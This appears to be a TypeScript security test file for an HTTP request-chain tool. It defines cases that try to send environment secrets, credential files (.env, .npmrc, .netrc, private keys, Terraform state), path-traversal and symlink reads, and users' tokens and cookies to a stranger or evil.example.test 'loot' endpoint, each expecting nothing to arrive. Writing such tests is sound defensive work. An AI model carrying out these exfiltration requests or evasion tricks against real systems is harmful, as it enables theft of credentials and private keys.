/** Attacks on what the machine has besides the secret: its variables, files of the workspace and beyond, matrices. */
import { login, PASSWORD, send, type Attack, type AttackGroup, type Setup } from './attack';
import type { Stage } from './stage';

const variables: readonly Attack[] = [
  ...[
    '{{$processEnv MACHINE_TOKEN}}',
    '{{$secret MACHINE_TOKEN}}',
    '{{$dotenv CLOUD_KEY}}',
    '{{$secret CLOUD_KEY}}',
  ].map((reference): Attack => ({
    name: `sends ${reference} to an origin that the chain writes`,
    verdict: 'nothing-arrives',
    setup: ({ stranger }) => ({ requests: [send(`${stranger}/loot/${reference}`)] }),
  })),
  {
    name: 'sends a variable that a person granted to an origin that the chain writes',
    verdict: 'nothing-arrives',
    setup: ({ stranger }) => ({
      requests: [send(`${stranger}/loot/{{$processEnv MACHINE_TOKEN}}`)],
      args: ['--allow-env', 'MACHINE_TOKEN'],
    }),
  },
  {
    name: 'sends a value of .env that a person granted to an origin that the chain writes',
    verdict: 'nothing-arrives',
    setup: ({ stranger }) => ({
      requests: [send(`${stranger}/loot/{{$dotenv CLOUD_KEY}}`)],
      args: ['--allow-env', 'CLOUD_KEY'],
    }),
  },
  {
    name: 'has a .env next to the chain that names the stranger',
    verdict: 'nothing-arrives',
    setup: ({ stranger }) => ({
      requests: [send(`{{$dotenv API}}/loot/${PASSWORD}`)],
      files: { '.env': `API=${stranger}\n` },
      args: ['--allow-env', 'API'],
    }),
  },
  {
    name: 'has a .env that sets the variables which bind the password and vouch for the environment',
    verdict: 'nothing-arrives',
    setup: ({ stranger, proxy }) => ({
      requests: [
        send(`${stranger}/loot/${PASSWORD}`),
        send(`http://evil.example.test/loot/${PASSWORD}`, { id: 'evil' }),
      ],
      files: {
        '.env': [
          `CHAINWRIGHT_ORIGINS_PASSWORD="${stranger} http://evil.example.test"`,
          'CHAINWRIGHT_TRUST_ENVIRONMENT=local.environment.json',
          '',
        ].join('\n'),
      },
      environment: { allowHosts: ['http://evil.example.test', stranger] },
      args: ['--proxy', proxy],
    }),
  },
  {
    name: 'sends the address of a chat',
    verdict: 'nothing-arrives',
    setup: ({ stranger }) => ({
      requests: [send(`${stranger}/loot/{{$secret SLACK_WEBHOOK}}`)],
      args: ['--secret-host', `SLACK_WEBHOOK=${stranger}`],
    }),
  },
];

/** Content that only its owner may have; `{file}` is a random text. */
const KEY = '-----BEGIN PRIVATE KEY-----\n{file}\n-----END PRIVATE KEY-----\n';
const FILES: readonly (readonly [name: string, content: string])[] = [
  ['.env', 'TOKEN={file}'],
  ['.env.production', 'TOKEN={file}'],
  ['.envrc', 'export TOKEN={file}'],
  ['prod.env', 'TOKEN={file}'],
  ['.npmrc', '//registry.example.com/:_authToken={file}'],
  ['.netrc', 'machine example.com password {file}'],
  ['.pgpass', 'localhost:5432:db:ann:{file}'],
  ['.htpasswd', 'ann:{file}'],
  ['.git/config', '[remote]\nurl = https://ann:{file}@example.com'],
  ['id_rsa', KEY],
  ['keys/id_ed25519', KEY],
  ['x.pem', KEY],
  ['server.key', KEY],
  ['notes.txt', KEY],
  [
    'account.json',
    '{"type":"service_account","private_key":"-----BEGIN PRIVATE KEY-----\\n{file}\\n-----END PRIVATE KEY-----\\n"}',
  ],
  ['terraform.tfstate', '{"outputs":{"password":{"value":"{file}"}}}'],
  ['terraform.tfstate.backup', '{"outputs":{"password":{"value":"{file}"}}}'],
  ['prod.tfvars', 'password = "{file}"'],
];

const bodyOf =
  (file: string) =>
  (stranger: string): object =>
    send(`${stranger}/loot`, { body: { file } });

const files: readonly Attack[] = [
  ...FILES.map(([name, content]): Attack => ({
    name: `sends the file ${name}`,
    verdict: 'nothing-arrives',
    setup: ({ stranger, loot }) => ({
      requests: [bodyOf(name)(stranger)],
      files: { [name]: content.replace('{file}', loot.file) },
    }),
  })),
  {
    name: 'sends .env as a part of a multipart body',
    verdict: 'nothing-arrives',
    setup: withDotenv((stranger) =>
      send(`${stranger}/loot`, { body: { multipart: [{ name: 'f', file: '.env' }] } }),
    ),
  },
  {
    name: 'sends .env by a symbolic link with an innocent name',
    verdict: 'nothing-arrives',
    setup: (stage) => ({ ...withDotenv(bodyOf('note.txt'))(stage), symbolicLinks: { 'note.txt': '.env' } }),
  },
  {
    name: 'sends .env by a hard link with an innocent name',
    verdict: 'nothing-arrives',
    setup: (stage) => ({ ...withDotenv(bodyOf('note.txt'))(stage), hardLinks: { 'note.txt': '.env' } }),
  },
  {
    name: 'sends .env by a path with a detour',
    verdict: 'nothing-arrives',
    setup: withDotenv(bodyOf('./vendor/../.env')),
  },
  {
    name: 'sends a file outside the workspace by its path',
    verdict: 'nothing-arrives',
    setup: ({ stranger }) => ({ requests: [bodyOf('../../../../../../etc/hostname')(stranger)] }),
  },
  {
    name: 'sends a file outside the workspace by a symbolic link',
    verdict: 'nothing-arrives',
    setup: ({ stranger }) => ({
      requests: [bodyOf('note.txt')(stranger)],
      symbolicLinks: { 'note.txt': '/etc/hostname' },
    }),
  },
  {
    name: 'sends a file by a symbolic link of a folder',
    verdict: 'nothing-arrives',
    setup: ({ stranger }) => ({
      requests: [bodyOf('vendor/hostname')(stranger)],
      symbolicLinks: { vendor: '/etc' },
    }),
  },
];

function withDotenv(request: (stranger: string) => object): (stage: Stage) => Setup {
  return ({ stranger, loot }) => ({ requests: [request(stranger)], files: { '.env': `TOKEN=${loot.file}` } });
}

/** A matrix of two users who sign in by `login`, and an operation on what they made. */
function matrixOf(signIn: object, read: object, more: object = {}): (stage: Stage) => Setup {
  const user = (role: string): object => ({
    role,
    login: 'login.chain.json',
    variables: { password: PASSWORD },
  });
  return () => ({
    command: ['authz', 'run', 'main.authz.json'],
    files: {
      'login.chain.json': {
        formatVersion: 1,
        name: 'Login',
        status: 'active',
        environment: 'local',
        requests: [signIn],
      },
      'api.chain.json': {
        formatVersion: 1,
        name: 'Api',
        status: 'active',
        environment: 'local',
        requests: [read],
      },
      'main.authz.json': {
        formatVersion: 1,
        name: 'Matrix',
        environment: 'local',
        users: { ann: user('customer'), bob: user('manager') },
        operations: { 'home.read': { request: 'api.chain.json#read', effect: 'read' } },
        policy: { customer: { 'home.*': 'any' }, manager: { 'home.*': 'any' } },
        ...more,
      },
    },
  });
}

const readHome = {
  id: 'read',
  method: 'GET',
  url: '{{baseUrl}}/home',
  auth: { type: 'bearer', token: '{{token}}' },
};
const signIn = { ...login, body: { json: { password: '{{password}}' } } };

const matrices: readonly Attack[] = [
  {
    name: 'has the users of a matrix sign in at the stranger',
    verdict: 'nothing-arrives',
    setup: (stage) => matrixOf({ ...signIn, url: `${stage.stranger}/login` }, readHome)(stage),
  },
  {
    name: 'has the users of a matrix sign in at a stranger that the matrix allows',
    verdict: 'nothing-arrives',
    setup: (stage) =>
      matrixOf({ ...signIn, url: `${stage.stranger}/login` }, readHome, { allowHosts: [stage.stranger] })(
        stage,
      ),
  },
  {
    name: 'sends the tokens of the users of a matrix to the stranger',
    verdict: 'nothing-arrives',
    setup: (stage) => matrixOf(signIn, { ...readHome, url: `${stage.stranger}/loot` })(stage),
  },
  {
    name: 'sends the cookies of the users of a matrix to the stranger',
    verdict: 'nothing-secret-arrives',
    setup: (stage) => matrixOf(signIn, { id: 'read', method: 'GET', url: `${stage.stranger}/plain` })(stage),
  },
];

/** Variables of the machine and of `.env`. */
export const machineVariables: AttackGroup = { name: 'variables of the machine', attacks: variables };

/** Files as bodies. */
export const bodyFiles: AttackGroup = { name: 'body files', attacks: files };

/** Authorization matrices. */
export const matrixAttacks: AttackGroup = { name: 'matrices', attacks: matrices };
